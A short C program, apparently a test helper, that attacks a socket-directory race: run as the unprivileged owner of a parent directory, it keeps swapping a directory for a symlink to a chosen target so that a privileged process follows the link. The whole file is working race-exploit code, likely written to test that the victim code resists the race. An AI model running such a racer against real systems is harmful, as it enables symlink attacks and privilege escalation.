/*
 * The attacker of the socket-directory race: run as the unprivileged owner of <parent>, it
 * swaps <parent>/<dir> between the real directory and a symlink to <target> as fast as it
 * can, until killed.  symlink-racer <parent> <dir> <target>
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char** argv) {
  if (argc != 4) {
    fprintf(stderr, "usage: symlink-racer <parent> <dir> <target>\n");
    return 2;
  }
  if (chdir(argv[1]) < 0) {
    perror("chdir");
    return 1;
  }
  const char* dir = argv[2];
  char aside[4096];
  snprintf(aside, sizeof(aside), "%s.real", dir);
  for (unsigned long n = 0;; n++) {
    if (rename(dir, aside) < 0) continue;
    /* Both states last a few system calls: about as long as the window between two steps of
     * the victim, so that the swap lands inside it often. */
    if (symlink(argv[3], dir) == 0) unlink(dir);
    rename(aside, dir);
    /* Now and then a longer pause on the real directory, so that whole start/stop cycles
     * also run (and race their later steps). */
    if ((n & 15) == 0) usleep(100);
  }
}
